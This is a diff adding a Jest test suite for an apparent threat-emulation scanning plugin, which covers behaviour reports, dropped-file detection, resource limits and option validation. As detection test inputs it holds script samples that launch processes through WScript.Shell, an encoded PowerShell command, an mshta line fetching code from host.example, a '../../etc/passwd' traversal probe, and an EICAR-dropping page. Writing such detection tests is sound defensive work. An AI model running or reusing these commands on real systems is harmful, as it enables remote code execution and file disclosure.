@@ -1,0 +1,198 @@
+import { describe, expect, test } from '@jest/globals';
+import type { Blade } from '../../../src/plugin/api.ts';
+import { block, allow } from '../../../src/plugin/api.ts';
+import type { BehaviourNode } from '../../../plugins/threat-emulation/report.ts';
+import { ReportStore } from '../../../plugins/threat-emulation/report-store.ts';
+import { optionsSchema } from '../../../plugins/threat-emulation/options.ts';
+import { eicar } from '../../support/eicar.ts';
+import { tempDir } from '../../support/tempDir.ts';
+import { emulationBlade } from './blade-support.ts';
+
+const JS = { 'content-type': 'text/javascript', 'content-disposition': 'attachment; filename="a.js"' };
+const code = (text: string): Buffer => Buffer.from(text);
+
+/** All nodes of a tree with the kinds on the way to them. */
+function flatten(node: BehaviourNode, way: readonly string[] = []): { way: string; what: string }[] {
+  const here = [...way, node.kind];
+  return [
+    { way: here.join(' > '), what: node.what },
+    ...node.children.flatMap((child) => flatten(child, here)),
+  ];
+}
+
+describe('reports', () => {
+  test('show a process under the layers of code that started it', async () => {
+    await using te = await emulationBlade();
+    await te.inspect(
+      code(
+        `var s = new ActiveXObject("WScript.Shell"); (function () { var what = "calc.exe"; eval("eval('s.Run(what)')"); })();`,
+      ),
+      JS,
+    );
+    const { tree } = await te.lastReport();
+    expect(flatten(tree)).toContainEqual({
+      way: 'content > script > layer > layer > process',
+      what: 'calc.exe',
+    });
+  });
+
+  test('decode what a command line hides', async () => {
+    await using te = await emulationBlade();
+    const hidden = Buffer.from('Write-Output "decoded text of the command"', 'utf16le').toString('base64');
+    await te.inspect(code(`new ActiveXObject("WScript.Shell").Run("powershell -enc ${hidden}")`), JS);
+    const { tree } = await te.lastReport();
+    expect(flatten(tree)).toContainEqual({
+      way: 'content > script > process > layer',
+      what: 'Write-Output "decoded text of the command"',
+    });
+  });
+
+  test('are bounded in number, the oldest go first, and survive a restart', async () => {
+    await using te = await emulationBlade();
+    await using folder = await tempDir();
+    await te.inspect(code('1'), JS);
+    const one = await te.lastReport();
+    const store = new ReportStore(folder.path, 3);
+    for (let n = 0; n < 5; n += 1)
+      await store.save({ ...one, id: `te-00000000000${n}`, at: `2026-01-0${n + 1}T00:00:00.000Z` });
+    const again = new ReportStore(folder.path, 3);
+    expect(await again.latest(10)).toEqual(['te-000000000004', 'te-000000000003', 'te-000000000002']);
+    expect(await again.read('te-000000000000')).toBeNull();
+    expect(await again.read('../../etc/passwd')).toBeNull();
+  });
+
+  test('are left out for clean content unless asked for', async () => {
+    await using folder = await tempDir();
+    await using te = await emulationBlade({ reports: { folder: folder.path } });
+    expect(await te.inspect(code('var a = 1;'), JS)).toEqual({ kind: 'allow' });
+    expect(await new ReportStore(folder.path, 10).latest(10)).toEqual([]);
+  });
+});
+
+describe('files that content makes', () => {
+  const page = Buffer.from(`<html><script>
+    var a = document.createElement("a");
+    a.href = URL.createObjectURL(new Blob([atob("${eicar().toString('base64')}")]));
+    a.download = "notes.txt"; a.click();</script></html>`);
+
+  test('go through anti-virus, which blocks by its own name for them', async () => {
+    const seen: Buffer[] = [];
+    const antivirus: Blade = {
+      name: 'antivirus',
+      inspect: (message) => {
+        seen.push(Buffer.from(message.body!.memory!));
+        return message.body!.memory!.equals(eicar())
+          ? block({ threat: 'EICAR-Test-File', reason: 'found' })
+          : allow();
+      },
+    };
+    await using te = await emulationBlade({}, antivirus);
+    expect(await te.inspect(page, { 'content-type': 'text/html' })).toMatchObject({
+      kind: 'block',
+      threat: 'EICAR-Test-File',
+    });
+    expect(seen).toEqual([eicar()]);
+    expect(await te.lastReport()).toMatchObject({
+      drops: [{ name: 'notes.txt', size: 68, antivirus: 'EICAR-Test-File' }],
+    });
+  });
+
+  test('are named in the report where no anti-virus is loaded', async () => {
+    await using te = await emulationBlade();
+    expect(await te.inspect(page, { 'content-type': 'text/html' })).toEqual({ kind: 'allow' });
+    expect(await te.lastReport()).toMatchObject({ drops: [{ name: 'notes.txt', antivirus: null }] });
+  });
+});
+
+describe('bounds', () => {
+  test('an endless script is judged by what it did before, and is logged as not fully scanned', async () => {
+    await using te = await emulationBlade({ script: { time: '200ms' } });
+    expect(await te.inspect(code('for (;;);'), JS)).toEqual({ kind: 'allow', notScanned: 'emulation limit' });
+    const verdict = await te.inspect(
+      code('new ActiveXObject("WScript.Shell").Run("mshta http://host.example/x"); for (;;);'),
+      JS,
+    );
+    expect(verdict).toMatchObject({ kind: 'block' });
+    expect(await te.lastReport()).toMatchObject({ limits: ['script stopped after 200 ms'] });
+  });
+
+  test('a script is stopped at its memory and at its instructions', async () => {
+    await using te = await emulationBlade({ script: { time: '8s', memory: '4MiB', ticks: 40 } });
+    await te.inspect(code('var a = []; for (;;) a.push("x".repeat(100000) + a.length);'), JS);
+    expect((await te.lastReport()).limits).toEqual(['script needed more than 4194304 bytes']);
+    await te.inspect(code('for (;;);'), JS);
+    expect((await te.lastReport()).limits).toEqual(['script ran too many instructions']);
+  });
+
+  test('a job over its time costs its own message only', async () => {
+    await using te = await emulationBlade({ timeout: '400ms', script: { time: '20s', ticks: 10_000_000 } });
+    await te.inspect(code('1'), JS); // the thread runs
+    const stuck = te.inspect(code('for (;;);'), JS);
+    const next = te.inspect(code('var after = 1;'), JS);
+    await expect(stuck).rejects.toMatchObject({ code: 'ERR_SCAN_TIMEOUT' });
+    expect(await next).toEqual({ kind: 'allow' });
+  });
+
+  test('a client that is gone ends the run, and a full queue says so', async () => {
+    await using te = await emulationBlade({ maxQueue: 1, script: { time: '20s', ticks: 10_000_000 } });
+    await te.inspect(code('1'), JS);
+    const gone = new AbortController();
+    const running = te.inspect(code('for (;;);'), JS, gone.signal);
+    const waiting = te.inspect(code('1'), JS);
+    await expect(te.inspect(code('1'), JS)).rejects.toMatchObject({ code: 'ERR_SCAN_UNAVAILABLE' });
+    gone.abort();
+    await expect(running).rejects.toMatchObject({ code: 'ERR_ABORTED' });
+    expect(await waiting).toEqual({ kind: 'allow' });
+  });
+
+  test('a body over maxSize passes as not scanned; what only shows or sounds is not emulated', async () => {
+    await using te = await emulationBlade({ maxSize: '1KiB' });
+    expect(await te.inspect(Buffer.alloc(2000, 0x20), JS)).toEqual({ kind: 'allow', notScanned: 'size' });
+    expect(await te.inspect(Buffer.from('\x89PNG\r\n', 'latin1'), { 'content-type': 'image/png' })).toEqual({
+      kind: 'allow',
+    });
+    expect(await te.reports().latest(10)).toEqual([]);
+  });
+
+  test('damaged documents and programs are allowed or blocked, and never an error', async () => {
+    await using te = await emulationBlade();
+    const beginnings = [
+      '%PDF-1.4\n1 0 obj << /JS (',
+      'MZ',
+      '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
+      '{\\rtf1{\\object',
+      'PK\x03\x04',
+      '<html><script>eval(',
+      'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46',
+    ];
+    for (const beginning of beginnings) {
+      for (const length of [0, 60, 400]) {
+        const body = Buffer.concat([Buffer.from(beginning, 'latin1'), Buffer.alloc(length, 0xfe)]);
+        expect(await te.inspect(body)).toMatchObject({ kind: expect.stringMatching(/^(?:allow|block)$/) });
+      }
+    }
+  });
+});
+
+describe('options', () => {
+  test.each([
+    [{ threshold: 5 }, /threshold/],
+    [{ script: { memory: '1GiB' } }, /1MiB to 64MiB/],
+    [{ timeout: 'soon' }, /duration such as 30s/],
+    [{ cape: { url: 'no address' } }, /url/i],
+    [{ speed: 1 }, /speed/],
+  ])('%j is refused with what is allowed', (options, expected) => {
+    expect(() => optionsSchema.parse(options)).toThrow(expected);
+  });
+
+  test('a lower threshold blocks what a higher one lets pass', async () => {
+    const text = code('new ActiveXObject("WScript.Shell").Run("notepad.exe")');
+    await using careful = await emulationBlade({ threshold: 20 });
+    await using normal = await emulationBlade();
+    expect(await careful.inspect(text, JS)).toMatchObject({
+      kind: 'block',
+      threat: 'Behaviour.script.starts-process',
+    });
+    expect(await normal.inspect(text, JS)).toEqual({ kind: 'allow' });
+  });
+});
